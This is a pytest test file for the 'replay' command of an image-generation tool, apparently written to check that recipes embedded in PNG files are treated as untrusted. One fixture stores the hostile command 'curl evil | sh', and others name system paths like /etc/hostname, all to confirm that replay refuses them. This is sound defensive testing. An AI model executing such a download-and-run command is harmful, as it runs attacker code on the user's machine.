"""Replay trusts nothing in a PNG, and every command writes its set of files all or nothing (issue 9)."""

import numpy as np
import pytest
from PIL import Image, PngImagePlugin

from neuroart import imaging, outputs


def _png_with_chunk(path, text):
    """A small PNG whose neuroart chunk holds `text` verbatim (any JSON, or not JSON at all)."""
    info = PngImagePlugin.PngInfo()
    info.add_itxt(imaging.RECIPE_KEY, text, zip=True)
    Image.new("L", (28, 28)).save(path, pnginfo=info)
    return path


def _png_with_argv(path, argv, **extra):
    outputs.save_image(np.zeros((28, 28), np.float32), path, recipe={"argv": argv, **extra})
    return path


def test_replay_writes_only_what_it_is_told(invoke, tmp_path, files_in):
    """A recipe naming --gif/--npz never makes replay write or replace those files."""
    _png_with_argv(tmp_path / "evil.png", ["generate", "3", "--per-digit", "2", "--out", "g.png",
                                            "--npz", "art.npz"])
    (tmp_path / "art.npz").write_bytes(b"the user's own file")
    result = invoke("replay", "evil.png", "--out", "art.png")
    assert result.exit_code == 0, result.stderr
    assert (tmp_path / "art.npz").read_bytes() == b"the user's own file"
    assert files_in(tmp_path) == ["art.npz", "art.png", "evil.png"]
    assert "replaying: neuroart generate 3 --per-digit 2 --out art.png" in result.stderr
    # ... and writes the npz only where the user asks
    result = invoke("replay", "evil.png", "--out", "again.png", "--npz", "mine.npz")
    assert result.exit_code == 0, result.stderr
    assert np.load(tmp_path / "mine.npz")["images"].shape == (2, 28, 28)


@pytest.mark.parametrize("argv,fragment", [
    (["train", "classifier", "--out", "m.keras"], "only rendering commands"),
    (["classify", "x.png"], "only rendering commands"),
    (["info"], "only rendering commands"),
    (["replay", "a.png", "--out", "b.png"], "only rendering commands"),
    ([], "only rendering commands"),
    (["reconstruct", "--data", "download"], "--data download"),
    (["reconstruct", "--data", "/etc/mnist.npz"], "--data /etc/mnist.npz"),
    (["deepdream", "/etc/hostname"], "add --with /etc/hostname"),
    (["dream", "--start", "/home/someone/secret.png"], "add --with"),
    (["generate", "--model", "/tmp/evil.keras"], "add --with /tmp/evil.keras"),
    (["dream", "--prior", "other.keras"], "add --with other.keras"),
    (["dream", "--steps", "100000", "--per-digit", "1000"], "--yes"),
    (["generate", "--no-such-option"], "does not parse"),
])
def test_replay_refuses_what_the_allow_list_does_not_allow(invoke, tmp_path, files_in, assert_clean_error,
                                                           argv, fragment):
    _png_with_argv(tmp_path / "r.png", argv, command="neuroart info")
    before = files_in(tmp_path)
    assert_clean_error(invoke("replay", "r.png", "--out", "out.png"), fragment)
    assert files_in(tmp_path) == before


def test_replay_reads_a_file_the_user_names(invoke, tmp_path, digit_png):
    digit_png("three.png")
    _png_with_argv(tmp_path / "r.png", ["reconstruct", str(tmp_path / "three.png"), "--out", "x.png"])
    result = invoke("replay", "r.png", "--out", "out.png", "--with", "three.png")
    assert result.exit_code == 0, result.stderr
    assert (tmp_path / "out.png").is_file()


def test_replay_shows_the_command_it_runs_not_the_stored_text(invoke, tmp_path):
    _png_with_argv(tmp_path / "r.png", ["generate", "1", "--per-digit", "1"], command="curl evil | sh")
    result = invoke("replay", "r.png", "--out", "o.png")
    assert result.exit_code == 0, result.stderr
    assert "curl" not in result.stderr + result.output
    assert "replaying: neuroart generate 1 --per-digit 1 --out o.png" in result.stderr


@pytest.mark.parametrize("text,fragment", [
    ("[1, 2]", "must be a JSON object"),
    ("[" * 200_000 + "]" * 200_000, "too long"),
    ("[" * 50_000 + "]" * 50_000, "not valid JSON"),
    ('{"argv": ["dream"], "command": 5}', "command must be a string"),
    ('{"argv": "dream --steps 5"}', "argv must be a list"),
    ('{"argv": ["dream", 5]}', "argv must be a list"),
    ('{"argv": ["dream"], "x": {"deep": [1]}}', "'x' must be"),
    ("not json at all", "not valid JSON"),
])
def test_malformed_recipes_are_one_line(invoke, tmp_path, files_in, assert_clean_error, text, fragment):
    _png_with_chunk(tmp_path / "bad.png", text)
    before = files_in(tmp_path)
    assert_clean_error(invoke("replay", "bad.png", "--out", "o.png"), fragment)
    assert files_in(tmp_path) == before


def test_gallery_index_ignores_what_pngs_in_the_folder_say(tmp_path):
    from neuroart import gallery

    piece = gallery.PIECES[0]
    _png_with_chunk(tmp_path / f"{piece.name}.png", "[" * 50_000 + "]" * 50_000)
    page = gallery.write_index(tmp_path).read_text()
    assert "neuroart " + piece.args.split()[0] in page


def test_a_set_of_outputs_is_checked_before_any_work(invoke, tmp_path, files_in, assert_clean_error):
    (tmp_path / "ok.png").write_bytes(b"old picture")
    for args, fragment in [
        (["dream", "3", "--out", "ok.png", "--gif", "ok.gif", "--npz", "nodir/x.npz"], "--npz nodir/x.npz"),
        (["morph", "1", "7", "--gif", "x.mp4"], "--gif must be a .gif"),
        (["generate", "--npz", "x.npy"], "--npz must be a .npz"),
    ]:
        before = files_in(tmp_path)
        assert_clean_error(invoke(*args), fragment)
        assert files_in(tmp_path) == before
    assert (tmp_path / "ok.png").read_bytes() == b"old picture"


def test_a_failed_write_leaves_no_partial_set(invoke, tmp_path, files_in, assert_clean_error, monkeypatch):
    """The last file of a set fails to write: the files before it are not renamed into place."""
    from neuroart import imaging as im

    (tmp_path / "old.png").write_bytes(b"old picture")

    def disk_full(arrays, file):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(im, "encode_npz", disk_full)
    result = invoke("generate", "3", "--per-digit", "2", "--out", "old.png", "--npz", "new.npz")
    assert_clean_error(result, "new.npz", "no space left")
    assert files_in(tmp_path) == ["old.png"]
    assert (tmp_path / "old.png").read_bytes() == b"old picture"


def test_a_killed_run_leaves_no_temp_files_behind(invoke, tmp_path):
    """A temp file of an earlier run that was killed (its process gone) is removed by the next write."""
    import os
    import time

    stale = tmp_path / ".g.png.999999999-abcdefgh.part"  # no such pid
    stale.write_bytes(b"half a picture")
    old = time.time() - 3600
    os.utime(stale, (old, old))
    result = invoke("generate", "1", "--per-digit", "1", "--out", "g.png")
    assert result.exit_code == 0, result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["g.png"]


@pytest.mark.parametrize("argv,fragment", [
    (["dream", "7", "--start", "secret"], "add --with secret"),  # a file in the current folder, no suffix
    (["explain", "secret"], "add --with secret"),
    (["dream", "--help"], "asks for help"),
    (["generate", "--model", "flow", "--steps", "1000", "--per-digit", "500"], "--yes"),  # steps, not digits
    (["dream", "--objective", "neuron", "--unit", "0-127", "--per-digit", "30", "--flow", "flow-teacher"], "--yes"),
    (["dream", "--prior", "none", "--objective", "neuron", "--unit", "0-127", "--steps", "1", "--per-digit", "1000"],
     "GB"),  # little work, all of it in one batch
])
def test_replay_refuses_hidden_files_help_and_disguised_work(invoke, tmp_path, files_in, assert_clean_error,
                                                             argv, fragment):
    (tmp_path / "secret").write_bytes(b"not yours")
    _png_with_argv(tmp_path / "r.png", argv)
    before = files_in(tmp_path)
    assert_clean_error(invoke("replay", "r.png", "--out", "out.png"), fragment)
    assert files_in(tmp_path) == before


def test_replay_never_goes_online(invoke, tmp_path, monkeypatch, assert_clean_error):
    """With no local MNIST, a recipe that needs it fails in one line instead of downloading."""
    from neuroart import data

    monkeypatch.delenv("NEUROART_MNIST", raising=False)
    monkeypatch.setattr(data, "KERAS_CACHE", tmp_path / "none.npz")
    monkeypatch.setattr(data, "_offline_file", lambda: None)
    monkeypatch.setattr(data, "_load_download", lambda: pytest.fail("replay went online"))
    _png_with_argv(tmp_path / "r.png", ["morph", "1", "7", "--frames", "3"])
    result = invoke("replay", "r.png", "--out", "o.png")
    lines = result.stderr.strip().splitlines()  # the command replay runs, then why it stopped
    assert result.exit_code == 1 and len(lines) == 2 and lines[0].startswith("replaying: neuroart morph"), lines
    assert lines[1].startswith("Error:") and "does not go online" in lines[1], lines
    assert not (tmp_path / "o.png").exists()


def test_a_sharded_recipe_replays(invoke, tmp_path):
    _png_with_argv(tmp_path / "r.png", ["generate", "1", "2", "--per-digit", "2", "--shard", "1/2"])
    result = invoke("replay", "r.png", "--out", "o.png")
    assert result.exit_code == 0, result.stderr
    assert (tmp_path / "o.png").is_file()


def test_replay_with_a_copy_of_the_input_matches_it_by_role(invoke, tmp_path, digit_png, assert_clean_error):
    """The recipe recorded the picture under another path: the user's copy stands in for it (issue 19)."""
    import shutil

    digit_png("three.png")
    (tmp_path / "elsewhere").mkdir()
    args = ["reconstruct", "--out", "r.png"]
    assert invoke(*args[:1], "three.png", *args[1:]).exit_code == 0
    shutil.copy(tmp_path / "three.png", tmp_path / "elsewhere" / "my copy.png")
    _png_with_argv(tmp_path / "recipe.png", ["reconstruct", "/some/where/else/three.png", "--out", "x.png"])
    for copy in ("elsewhere/my copy.png", "three.png"):  # another name (the one input), the same name
        result = invoke("replay", "recipe.png", "--out", "again.png", "--with", copy)
        assert result.exit_code == 0, result.stderr
        assert f"reading {copy} as the recipe's IMAGES (recorded as /some/where/else/three.png)" in result.stderr
        assert "replaying: neuroart reconstruct " + ("'elsewhere/my copy.png'" if " " in copy else copy) in result.stderr
        with Image.open(tmp_path / "again.png") as a, Image.open(tmp_path / "r.png") as b:
            assert np.array_equal(np.asarray(a), np.asarray(b))
    # two inputs and one unrelated file: nothing to match it by
    _png_with_argv(tmp_path / "two.png", ["morph", "/x/a.png", "/x/b.png", "--out", "m.png"])
    assert_clean_error(invoke("replay", "two.png", "--out", "o.png", "--with", "three.png"), "add --with /x/a.png")


def test_the_cost_counts_steps_passes_and_memory():
    """Work is digits x steps x network passes (a flow pass outweighs an MLP pass), memory the batch."""
    from neuroart.cli import main
    from neuroart.cli.replay_checks import REPLAY_MEMORY, REPLAY_WORK, replay_cost

    def cost(*argv):
        return replay_cost(argv[0], main.get_command(None, argv[0]).make_context(argv[0], list(argv[1:])).params)

    few, many = cost("generate", "--model", "flow-teacher", "--per-digit", "500"), cost(
        "generate", "--model", "flow-teacher", "--steps", "1000", "--per-digit", "500")
    assert many.work == pytest.approx(few.work * 1000 / 20) and many.work > REPLAY_WORK > few.work
    own = cost("generate", "--model", "flow", "--per-digit", "500")  # a few-step flow: its own grid
    assert own.work <= few.work / 5
    assert cost("generate", "--model", "cvae", "--per-digit", "500").work < few.work / 50  # a decoder pass, not a U-Net's
    flow, pixel = (cost("dream", "--prior", p, "--steps", "25", "--per-digit", "10") for p in ("flow", "vae"))
    assert flow.work > 10 * pixel.work
    wide = cost("dream", "--prior", "none", "--objective", "neuron", "--unit", "0-127", "--steps", "1",
                "--per-digit", "1000")
    assert wide.work < REPLAY_WORK and wide.memory > REPLAY_MEMORY
    assert "network passes of a digit" in many.describe() and "min on 2 cores" in many.describe()


def test_replay_says_when_the_weights_differ_from_the_recipes(invoke, tmp_path):
    from neuroart.models import model_hash

    _png_with_argv(tmp_path / "old.png", ["generate", "1", "--per-digit", "1"], model="cvae",
                   model_sha256="0123456789abcdef")
    result = invoke("replay", "old.png", "--out", "o.png")
    assert result.exit_code == 0, result.stderr
    assert (f"replay: the recipe's model had weights 0123456789abcdef; the bundled cvae has {model_hash('cvae')}: "
            "the picture will differ") in result.stderr
    _png_with_argv(tmp_path / "same.png", ["generate", "1", "--per-digit", "1"], model="cvae",
                   model_sha256=model_hash("cvae"))
    result = invoke("replay", "same.png", "--out", "o.png")
    assert result.exit_code == 0 and "will differ" not in result.stderr, result.stderr


def test_replay_says_when_a_with_picture_is_another_one(invoke, tmp_path, digit_png):
    """The recipe records its input pictures' hashes: a copy replays silently, another picture is named."""
    import shutil

    digit_png("three.png")
    digit_png("other.png", size=(200, 300))
    assert invoke("reconstruct", "three.png", "--out", "r.png").exit_code == 0
    assert outputs.read_recipe(tmp_path / "r.png")["inputs_sha256"][0].startswith("images=")
    (tmp_path / "copy").mkdir()
    shutil.copy(tmp_path / "three.png", tmp_path / "copy" / "three.png")
    result = invoke("replay", "r.png", "--out", "a.png", "--with", "copy/three.png")
    assert result.exit_code == 0 and "not the picture" not in result.stderr, result.stderr
    with Image.open(tmp_path / "a.png") as a, Image.open(tmp_path / "r.png") as b:  # same pixels, same recipe
        assert np.array_equal(np.asarray(a), np.asarray(b)) and a.info == b.info
    result = invoke("replay", "r.png", "--out", "b.png", "--with", "other.png")
    assert result.exit_code == 0, result.stderr
    assert "replay: input 1 (images) is not the picture the recipe read" in result.stderr
    _png_with_argv(tmp_path / "old.png", ["reconstruct", "three.png", "--out", "x.png"])  # a recipe without hashes
    result = invoke("replay", "old.png", "--out", "c.png", "--with", "three.png")
    assert result.exit_code == 0 and "recorded no hash of its input pictures" in result.stderr, result.stderr


def test_a_recipe_older_than_input_hashes_replays_to_the_same_bytes(invoke, tmp_path, digit_png, monkeypatch):
    """Replay writes a recipe's input hashes only when the recipe had them: an older PNG comes back
    byte for byte (with a word that replay cannot tell the picture is the same)."""
    from neuroart import recipe

    digit_png("three.png")
    with monkeypatch.context() as m:  # a neuroart that did not record input hashes yet
        m.setattr(recipe, "input_hashes", lambda options: [])
        assert invoke("reconstruct", "three.png", "--out", "old.png").exit_code == 0
    assert "inputs_sha256" not in outputs.read_recipe(tmp_path / "old.png")
    result = invoke("replay", "old.png", "--out", "again.png", "--with", "three.png")
    assert result.exit_code == 0 and "recorded no hash of its input pictures" in result.stderr, result.stderr
    assert (tmp_path / "again.png").read_bytes() == (tmp_path / "old.png").read_bytes()
